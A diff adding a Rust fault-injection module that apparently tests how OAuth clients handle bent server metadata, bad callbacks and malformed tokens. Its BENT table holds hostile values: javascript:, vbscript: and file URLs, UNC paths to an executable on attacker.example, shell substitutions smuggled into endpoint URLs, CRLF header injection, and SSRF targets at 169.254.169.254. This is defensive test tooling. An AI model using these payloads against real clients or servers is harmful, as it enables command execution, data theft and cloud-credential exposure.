@@ -1,0 +1,301 @@
+//! The faults of signing in: rows like those of `table`, and the list of bent metadata.
+
+use serde_json::{Value, json};
+
+use super::fault::{Effect, InvalidFault};
+use super::oauth_plan::{CallbackFault, DocumentFault, ErrorFault, MemberFault, TokenFault};
+use super::plan::Plan;
+use super::table::{Row, Scope, effect};
+use super::words::Words;
+
+pub(super) const ROWS: &[Row] = &[
+    Row {
+        name: "metadata",
+        syntax: "metadata=javascript|data|vbscript|file|file-share|unc|shell|shell-scheme|control|dash\
+                 |relative|plain-http|plain-http-token|plain-http-register|private-token\
+                 |decimal-token|mapped-token|private-issuer|no-token-endpoint\
+                 |no-authorization-endpoint|no-registration|wrong-issuer|slash-issuer|no-issuer\
+                 |no-pkce|plain-pkce|other-resource|sibling-resource|no-resource|no-issuers\
+                 |issuers-text",
+        about: "OAuth: bends the metadata of resource or authorization server in a known way",
+        example: "metadata=javascript",
+        keys: &[],
+        scope: Scope::Any,
+        read: read_metadata,
+    },
+    Row {
+        name: "issuer-member",
+        syntax: "issuer-member=NAME[:value=JSON-OR-TEXT]",
+        about: "OAuth: sets a member of the authorization server's metadata, or removes it",
+        example: "issuer-member=issuer:value={issuer}/",
+        keys: &["value"],
+        scope: Scope::Any,
+        read: |words| {
+            let member = read_member(words)?;
+            effect(move |plan| plan.oauth.issuer_members.push(member.clone()))
+        },
+    },
+    Row {
+        name: "resource-member",
+        syntax: "resource-member=NAME[:value=JSON-OR-TEXT]",
+        about: "OAuth: sets a member of the resource metadata, or removes it",
+        example: "resource-member=resource:value=https://other.example/mcp",
+        keys: &["value"],
+        scope: Scope::Any,
+        read: |words| {
+            let member = read_member(words)?;
+            effect(move |plan| plan.oauth.resource_members.push(member.clone()))
+        },
+    },
+    Row {
+        name: "document",
+        syntax: "document=html|oversize|truncated|array|empty|text",
+        about: "OAuth: metadata is HTML, 16 MiB long, half, an array, nothing, or plain text",
+        example: "document=html",
+        keys: &[],
+        scope: Scope::Any,
+        read: read_document,
+    },
+    Row {
+        name: "callback",
+        syntax: "callback=no-state|wrong-state|two-states|no-iss|wrong-iss|slash-iss|no-code|script",
+        about: "OAuth: sends the browser back with this mistake; `script` is an error of markup",
+        example: "callback=wrong-state",
+        keys: &[],
+        scope: Scope::Any,
+        read: read_callback,
+    },
+    Row {
+        name: "token",
+        syntax: "token=html|no-access-token|no-type|other-type|lower-case-type|no-scope\
+                 |text-expiry|negative-expiry|illegal",
+        about: "OAuth: issues tokens and gets the answer wrong; `lower-case-type` is right",
+        example: "token=text-expiry",
+        keys: &[],
+        scope: Scope::Any,
+        read: read_token,
+    },
+    Row {
+        name: "first-token-ended",
+        syntax: "first-token-ended",
+        about: "OAuth: takes the access token that it is shown first for ended, and no other",
+        example: "first-token-ended",
+        keys: &[],
+        scope: Scope::Any,
+        read: |_| effect(|plan| plan.oauth.first_token_ended = true),
+    },
+    Row {
+        name: "oauth-error",
+        syntax: "oauth-error=CODE[:at=token|register|authorize|revoke|device_authorization]\
+                 [:message=TEXT][:status=STATUS]",
+        about: "OAuth: refuses in the words of OAuth and does nothing",
+        example: "oauth-error=invalid_grant:at=token:times=1",
+        keys: &["at", "message", "status"],
+        scope: Scope::Any,
+        read: read_error,
+    },
+];
+
+/// Where a bent member stands.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+enum Document {
+    Issuer,
+    Resource,
+}
+
+/// Known ways to bend metadata: name, document, member, value as JSON; no value removes it.
+const BENT: &[(&str, Document, &str, Option<&str>)] = &[
+    ("javascript", Document::Issuer, "authorization_endpoint", Some(r#""javascript:alert(1)""#)),
+    ("data", Document::Issuer, "authorization_endpoint", Some(r#""data:text/html,<h1>x</h1>""#)),
+    ("vbscript", Document::Issuer, "authorization_endpoint", Some(r#""vbscript:msgbox(1)""#)),
+    (
+        "file",
+        Document::Issuer,
+        "authorization_endpoint",
+        Some(r#""file:///c:/windows/system32/calc.exe""#),
+    ),
+    (
+        "file-share",
+        Document::Issuer,
+        "authorization_endpoint",
+        Some(r#""file://attacker.example/share/x.exe""#),
+    ),
+    (
+        "unc",
+        Document::Issuer,
+        "authorization_endpoint",
+        Some(r#""\\\\attacker.example\\s\\x.exe""#),
+    ),
+    (
+        "shell",
+        Document::Issuer,
+        "authorization_endpoint",
+        Some(r#""{issuer}/authorize?a=$(touch mcp-owned)&b=`touch mcp-owned`|x&c=%PATH%""#),
+    ),
+    ("shell-scheme", Document::Issuer, "authorization_endpoint", Some(r#""a:$(calc.exe)?x=1""#)),
+    (
+        "control",
+        Document::Issuer,
+        "authorization_endpoint",
+        Some(r#""{issuer}/auth\u0007orize\r\nX-Evil: 1\u001b[2J""#),
+    ),
+    ("dash", Document::Issuer, "authorization_endpoint", Some(r#""--new-window""#)),
+    ("relative", Document::Issuer, "authorization_endpoint", Some(r#""/oauth/authorize""#)),
+    (
+        "plain-http",
+        Document::Issuer,
+        "authorization_endpoint",
+        Some(r#""http://login.example/authorize""#),
+    ),
+    (
+        "plain-http-token",
+        Document::Issuer,
+        "token_endpoint",
+        Some(r#""http://login.example/token""#),
+    ),
+    (
+        "plain-http-register",
+        Document::Issuer,
+        "registration_endpoint",
+        Some(r#""http://login.example/register""#),
+    ),
+    (
+        "private-token",
+        Document::Issuer,
+        "token_endpoint",
+        Some(r#""https://169.254.169.254/latest/meta-data/""#),
+    ),
+    ("decimal-token", Document::Issuer, "token_endpoint", Some(r#""https://2852039166/token""#)),
+    (
+        "mapped-token",
+        Document::Issuer,
+        "token_endpoint",
+        Some(r#""https://[::ffff:169.254.169.254]/token""#),
+    ),
+    (
+        "private-issuer",
+        Document::Resource,
+        "authorization_servers",
+        Some(r#"["https://169.254.169.254"]"#),
+    ),
+    ("no-token-endpoint", Document::Issuer, "token_endpoint", None),
+    ("no-authorization-endpoint", Document::Issuer, "authorization_endpoint", None),
+    ("no-registration", Document::Issuer, "registration_endpoint", None),
+    ("wrong-issuer", Document::Issuer, "issuer", Some(r#""https://issuer.example""#)),
+    ("slash-issuer", Document::Issuer, "issuer", Some(r#""{issuer}/""#)),
+    ("no-issuer", Document::Issuer, "issuer", None),
+    ("no-pkce", Document::Issuer, "code_challenge_methods_supported", None),
+    ("plain-pkce", Document::Issuer, "code_challenge_methods_supported", Some(r#"["plain"]"#)),
+    ("other-resource", Document::Resource, "resource", Some(r#""https://other.example/mcp""#)),
+    ("sibling-resource", Document::Resource, "resource", Some(r#""{origin}/mcp-other""#)),
+    ("no-resource", Document::Resource, "resource", None),
+    ("no-issuers", Document::Resource, "authorization_servers", Some("[]")),
+    ("issuers-text", Document::Resource, "authorization_servers", Some(r#""{issuer}""#)),
+];
+
+fn read_metadata(words: &mut Words) -> Result<Effect, InvalidFault> {
+    let choices: Vec<(&str, usize)> =
+        BENT.iter().enumerate().map(|(at, (name, ..))| (*name, at)).collect();
+    let (_, document, member, value) = BENT[words.main_choice(&choices)?];
+    let value = value.map(|text| serde_json::from_str(text).expect("the table holds JSON"));
+    let fault = MemberFault { name: member.to_owned(), value };
+    effect(move |plan: &mut Plan| match document {
+        Document::Issuer => plan.oauth.issuer_members.push(fault.clone()),
+        Document::Resource => plan.oauth.resource_members.push(fault.clone()),
+    })
+}
+
+/// What is no JSON is a text.
+pub(super) fn read_member(words: &mut Words) -> Result<MemberFault, InvalidFault> {
+    let read = |text: String| serde_json::from_str::<Value>(&text).unwrap_or_else(|_| json!(text));
+    let value = words.take("value").map(read);
+    let name = words.main().filter(|name| !name.is_empty());
+    let name = name.ok_or_else(|| words.wrong(format!("`{}` needs a name", words.name())))?;
+    Ok(MemberFault { name, value })
+}
+
+fn read_document(words: &mut Words) -> Result<Effect, InvalidFault> {
+    let fault = words.main_choice(&[
+        ("html", DocumentFault::Html),
+        ("oversize", DocumentFault::Oversize),
+        ("truncated", DocumentFault::Truncated),
+        ("array", DocumentFault::Array),
+        ("empty", DocumentFault::Empty),
+        ("text", DocumentFault::Text),
+    ])?;
+    effect(move |plan| plan.oauth.document = Some(fault))
+}
+
+fn read_callback(words: &mut Words) -> Result<Effect, InvalidFault> {
+    let fault = words.main_choice(&[
+        ("no-state", CallbackFault::NoState),
+        ("wrong-state", CallbackFault::WrongState),
+        ("two-states", CallbackFault::TwoStates),
+        ("no-iss", CallbackFault::NoIss),
+        ("wrong-iss", CallbackFault::WrongIss),
+        ("slash-iss", CallbackFault::SlashIss),
+        ("no-code", CallbackFault::NoCode),
+        ("script", CallbackFault::Script),
+    ])?;
+    effect(move |plan| plan.oauth.callback.push(fault))
+}
+
+fn read_token(words: &mut Words) -> Result<Effect, InvalidFault> {
+    let fault = words.main_choice(&[
+        ("html", TokenFault::Html),
+        ("no-access-token", TokenFault::NoAccessToken),
+        ("no-type", TokenFault::NoType),
+        ("other-type", TokenFault::OtherType),
+        ("lower-case-type", TokenFault::LowerCaseType),
+        ("no-scope", TokenFault::NoScope),
+        ("text-expiry", TokenFault::ExpiresInText),
+        ("negative-expiry", TokenFault::ExpiresInNegative),
+        ("illegal", TokenFault::IllegalToken),
+    ])?;
+    effect(move |plan| plan.oauth.token = Some(fault))
+}
+
+fn read_error(words: &mut Words) -> Result<Effect, InvalidFault> {
+    let endpoints = ["token", "register", "authorize", "revoke", "device_authorization"];
+    let endpoints = endpoints.map(|name| (name, name));
+    let at = words.take_choice("at", &endpoints)?.unwrap_or("token");
+    let message = words.take("message").unwrap_or_else(|| "a fault was asked for".to_owned());
+    let status = words.take_number("status")?.unwrap_or(400);
+    let code = words.main().unwrap_or_else(|| "server_error".to_owned());
+    let fault = ErrorFault { at, status, code, message };
+    effect(move |plan| plan.oauth.error = Some(fault.clone()))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::faults::fault::{ActiveFault, Asked};
+
+    fn plan(fault: &str) -> Plan {
+        let asked = Asked { http: "GET", path: "/x", method: "", is_request: false, tool: "" };
+        let mut plan = Plan::default();
+        ActiveFault::new(fault.parse().unwrap()).apply(&asked, &mut plan);
+        plan
+    }
+
+    #[test]
+    fn every_known_way_to_bend_metadata_can_be_read() {
+        for (name, ..) in BENT {
+            let oauth = plan(&format!("metadata={name}")).oauth;
+            assert_eq!(oauth.issuer_members.len() + oauth.resource_members.len(), 1, "{name}");
+        }
+        let names: Vec<&str> = BENT.iter().map(|(name, ..)| *name).collect();
+        assert_eq!(ROWS[0].syntax, format!("metadata={}", names.join("|")));
+    }
+
+    #[test]
+    fn members_are_json_or_text_or_removed() {
+        let member = |fault: &str| plan(fault).oauth.issuer_members[0].clone();
+        let read = member("issuer-member=x:value=[\"a\"]");
+        assert_eq!(read, MemberFault { name: "x".to_owned(), value: Some(json!(["a"])) });
+        assert_eq!(member("issuer-member=x:value=http://a:1/b").value, Some("http://a:1/b".into()));
+        assert_eq!(member("issuer-member=x").value, None);
+        let nameless = "issuer-member".parse::<crate::Fault>().unwrap_err();
+        assert_eq!(nameless.reason, "`issuer-member` needs a name");
+    }
+}
